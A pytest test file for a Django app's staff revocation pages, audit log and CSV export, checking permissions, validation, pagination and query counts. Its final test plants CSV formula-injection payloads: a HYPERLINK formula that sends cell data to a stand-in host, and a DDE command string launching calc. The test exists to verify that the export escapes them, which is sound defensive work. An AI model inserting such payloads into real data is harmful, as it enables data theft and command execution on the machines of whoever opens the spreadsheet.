"""The staff pages for revocations: the access panel, Revocations, the audit trail and its CSV."""

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.models import AccessAudit, AccessStatus, RevocationRequest, RevocationStatus
from accounts.services.revocation import revocation_approve, revocation_request
from tests.factories import AccountFactory


def _panel(client, account, htmx=True):
    headers = {"HX-Request": "true"} if htmx else {}
    response = client.get(
        reverse("account_access_actions", args=[account.public_id]), headers=headers
    )
    assert response.status_code == 200
    return response.content.decode()


def _revoked(customer, requester, approver):
    revocation = revocation_request(
        account=customer.account, requested_by=requester, reason="Fraud"
    )
    return revocation_approve(revocation_id=revocation.pk, approver=approver)


@pytest.mark.smoke
def test_account_page_lazy_loads_the_panel(admin_client_, customer):
    body = admin_client_.get(reverse("account_detail", args=[customer.public_id])).content
    url = reverse("account_access_actions", args=[customer.public_id])
    assert f'hx-get="{url}"'.encode() in body
    assert f'href="{url}"'.encode() in body


def test_panel_is_a_fragment_for_htmx_and_a_page_without(support_client, customer):
    fragment = _panel(support_client, customer)
    assert "<html" not in fragment and "Access actions" in fragment
    page = _panel(support_client, customer, htmx=False)
    assert "<html" in page and 'id="access-actions"' in page


@pytest.mark.parametrize("who", ["support_client", "finance_client", "admin_client_"])
def test_requesters_see_the_request_form_but_not_restore(request, who, customer):
    body = _panel(request.getfixturevalue(who), customer)
    assert 'data-testid="request-revocation"' in body
    assert 'data-testid="restore-access"' not in body


def test_only_admins_see_restore_on_a_revoked_account(
    customer, support_user, second_admin, support_client
):
    _revoked(customer, support_user, second_admin)
    assert 'data-testid="restore-access"' not in _panel(support_client, customer)
    support_client.force_login(second_admin)
    body = _panel(support_client, customer)
    assert 'data-testid="restore-access"' in body
    assert "hx-confirm=" in body


@pytest.mark.smoke
def test_request_from_the_panel(support_client, support_user, customer):
    url = reverse("revocation_request_create", args=[customer.public_id])
    response = support_client.post(
        url, {"reason": "", "reference": ""}, headers={"HX-Request": "true"}
    )
    assert "A reason is required." in response.content.decode()
    assert not RevocationRequest.objects.exists()

    response = support_client.post(
        url,
        {"reason": "Chargeback lost", "reference": "Chargeback Case #12345"},
        headers={"HX-Request": "true", "HX-Target": "access-actions"},
    )
    body = response.content.decode()
    assert response.status_code == 200
    assert "Revocation requested" in body and "Chargeback Case #12345" in body
    assert 'data-testid="request-revocation"' not in body  # one open request at a time
    revocation = RevocationRequest.objects.get()
    assert revocation.requested_by == support_user
    assert revocation.reference == "Chargeback Case #12345"
    assert revocation.status == RevocationStatus.PENDING


def test_request_without_htmx_redirects_to_the_account(finance_client, customer):
    response = finance_client.post(
        reverse("revocation_request_create", args=[customer.public_id]), {"reason": "Fraud"}
    )
    assert response.status_code == 302
    assert response.url == reverse("account_detail", args=[customer.public_id])


def test_restore_from_the_panel(customer, support_user, second_admin, admin_client_, admin_user):
    _revoked(customer, support_user, second_admin)
    url = reverse("access_restore", args=[customer.public_id])
    response = admin_client_.post(url, {"reason": ""}, headers={"HX-Request": "true"})
    assert "A reason is required." in response.content.decode()
    response = admin_client_.post(
        url, {"reason": "Chargeback reversed"}, headers={"HX-Request": "true"}
    )
    assert "Access restored." in response.content.decode()
    customer.refresh_from_db()
    assert customer.access_status == AccessStatus.ACTIVE
    row = AccessAudit.objects.filter(account=customer.account).latest("id")
    assert (row.to_status, row.actor_user, row.reason) == (
        AccessStatus.ACTIVE,
        admin_user,
        "Chargeback reversed",
    )


def _client_as(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_revocations_page_buttons_follow_the_role(customer, support_user, admin_user):
    admin_client_, support_client = _client_as(admin_user), _client_as(support_user)
    own = revocation_request(account=customer.account, requested_by=admin_user, reason="Mine")
    other = revocation_request(account=AccountFactory(), requested_by=support_user, reason="Theirs")
    body = admin_client_.get(reverse("revocation_list")).content.decode()
    assert f'data-testid="approve-{other.pk}"' in body
    assert f'data-testid="approve-{own.pk}"' not in body
    assert "another Admin decides" in body
    body = support_client.get(reverse("revocation_list")).content.decode()
    assert "Theirs" in body and 'data-testid="approve-' not in body


@pytest.mark.smoke
def test_approve_and_reject_from_the_page(customer, support_user, admin_client_):
    revocation = revocation_request(
        account=customer.account, requested_by=support_user, reason="Fraud"
    )
    response = admin_client_.post(
        reverse("revocation_reject", args=[revocation.pk]),
        {"comment": ""},
        headers={"HX-Request": "true", "HX-Target": "revocations"},
    )
    assert "Say why" in response.content.decode()
    response = admin_client_.post(
        reverse("revocation_approve", args=[revocation.pk]),
        {"comment": "Confirmed with the bank"},
        headers={"HX-Request": "true", "HX-Target": "revocations"},
    )
    body = response.content.decode()
    assert "<html" not in body and 'id="revocations"' in body
    assert f"Approved the revocation of {customer.email}: completed." in body
    revocation.refresh_from_db()
    assert revocation.status == RevocationStatus.COMPLETED
    assert revocation.decision_comment == "Confirmed with the bank"


@pytest.mark.parametrize("action", ["revocation_approve", "revocation_reject"])
def test_a_comment_too_long_is_refused_not_dropped(customer, support_user, admin_client_, action):
    """An approval with a comment over 2,000 characters ran with no comment at all, and a
    rejection was told no reason was given (found in review): nothing is done, and the page
    says the comment is too long."""
    revocation = revocation_request(
        account=customer.account, requested_by=support_user, reason="Fraud"
    )
    response = admin_client_.post(
        reverse(action, args=[revocation.pk]),
        {"comment": "Approved per ticket " + "z" * 2100},
        headers={"HX-Request": "true", "HX-Target": "revocations"},
    )
    body = response.content.decode()
    assert "at most 2000 characters" in body
    assert "Say why" not in body
    revocation.refresh_from_db()
    assert revocation.status == RevocationStatus.PENDING
    assert revocation.decision_comment == ""
    assert 'maxlength="2000"' in admin_client_.get(reverse("revocation_list")).content.decode()


def test_a_reason_too_long_says_so_not_that_it_is_missing(support_client, customer):
    response = support_client.post(
        reverse("revocation_request_create", args=[customer.public_id]),
        {"reason": "x" * 2001},
        headers={"HX-Request": "true"},
    )
    body = response.content.decode()
    assert "A reason is required." not in body
    assert "at most 2000 characters" in body
    assert not RevocationRequest.objects.exists()


def test_unknown_request_is_404(admin_client_):
    assert admin_client_.post(reverse("revocation_approve", args=[999999])).status_code == 404
    assert admin_client_.post(reverse("revocation_retry", args=[999999])).status_code == 404


def test_revocations_page_query_count_does_not_grow(
    admin_client_, support_user, admin_user, django_assert_max_num_queries
):
    for _ in range(12):
        revocation_request(account=AccountFactory(), requested_by=support_user, reason="Fraud")
    for _ in range(6):
        revocation = revocation_request(
            account=AccountFactory(), requested_by=support_user, reason="Fraud"
        )
        RevocationRequest.objects.filter(pk=revocation.pk).update(
            status=RevocationStatus.REJECTED,
            decided_by=admin_user,
            decided_at=timezone.now(),
            decision_comment="no",
        )
    with django_assert_max_num_queries(10):
        response = admin_client_.get(reverse("revocation_list"))
    assert response.content.decode().count('data-testid="open-request-') == 12


def _audit_rows(n, actor="ops@janitor.test"):
    accounts = [AccountFactory() for _ in range(n)]
    from accounts.services.access_status import access_status_change

    for account in accounts:
        access_status_change(
            account=account,
            to_status=AccessStatus.GRACE_PERIOD,
            actor=actor,
            reason="Payment failed",
            reference="ref-1",
            grace_ends_at=timezone.now() + timedelta(days=7),
        )
    return accounts


@pytest.mark.smoke
def test_audit_page_filters_and_keeps_queries_flat(support_client, django_assert_max_num_queries):
    accounts = _audit_rows(8)
    _audit_rows(3, actor="system:nightly")
    with django_assert_max_num_queries(8):
        body = support_client.get(reverse("audit_list")).content.decode()
    assert body.count("Payment failed") == 11

    body = support_client.get(reverse("audit_list"), {"actor": "system:"}).content.decode()
    assert body.count("Payment failed") == 3
    target = accounts[0]
    for needle in (target.public_id, target.email.upper()):
        body = support_client.get(reverse("audit_list"), {"account": needle}).content.decode()
        assert body.count("Payment failed") == 1 and target.email in body
    tomorrow = (timezone.now() + timedelta(days=1)).date().isoformat()
    body = support_client.get(reverse("audit_list"), {"date_from": tomorrow}).content.decode()
    assert "No access changes match." in body
    today = timezone.now().date().isoformat()
    body = support_client.get(
        reverse("audit_list"), {"date_from": today, "date_to": today}
    ).content.decode()
    assert body.count("Payment failed") == 11


def test_audit_page_paginates(support_client):
    _audit_rows(55)
    body = support_client.get(reverse("audit_list")).content.decode()
    assert body.count("Payment failed") == 50 and "Page 1 of 2" in body
    body = support_client.get(reverse("audit_list"), {"page": 2}).content.decode()
    assert body.count("Payment failed") == 5


def test_audit_csv_export(finance_user, support_user, django_assert_max_num_queries):
    finance_client, support_client = _client_as(finance_user), _client_as(support_user)
    _audit_rows(4)
    _audit_rows(2, actor="system:nightly")
    assert (
        'data-testid="audit-csv"' not in support_client.get(reverse("audit_list")).content.decode()
    )
    assert support_client.get(reverse("audit_list"), {"format": "csv"}).status_code == 403
    with django_assert_max_num_queries(8):
        response = finance_client.get(reverse("audit_list"), {"format": "csv", "actor": "ops@"})
        content = b"".join(response.streaming_content).decode()
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.DictReader(io.StringIO(content)))
    assert len(rows) == 4
    assert {r["to_status"] for r in rows} == {"grace_period"}
    assert rows[0]["actor"] == "ops@janitor.test" and rows[0]["reference"] == "ref-1"


def test_a_bad_filter_never_widens_the_audit_to_everything(finance_user):
    """A mistyped date beside an account filter: the page keeps the account filter and says
    what it refused; the export is refused rather than streaming every customer's audit."""
    finance_client = _client_as(finance_user)
    target = _audit_rows(3)[0]

    page = finance_client.get(
        reverse("audit_list"), {"account": target.public_id, "date_to": "2026-13-45"}
    ).content.decode()
    assert page.count("Payment failed") == 1 and "Enter a valid date" in page

    export = finance_client.get(
        reverse("audit_list"),
        {"account": target.public_id, "date_to": "2026-13-45", "format": "csv"},
    )
    assert export.status_code == 400
    assert "Fix the filters before exporting" in export.content.decode()


def test_audit_csv_cannot_carry_a_formula(finance_user, customer, support_user, second_admin):
    """A reason or reference a spreadsheet would run comes out as text (issue 14, finding 3)."""
    revocation = revocation_request(
        account=customer.account,
        requested_by=support_user,
        reason='=HYPERLINK("http://evil.example/?"&A2,"Click")',
        reference="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    revocation_approve(revocation_id=revocation.pk, approver=second_admin)
    response = _client_as(finance_user).get("/access-audit/", {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="access-audit.csv"'
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {row["reason"] for row in rows} == {'\'=HYPERLINK("http://evil.example/?"&A2,"Click")'}
    assert {row["reference"] for row in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
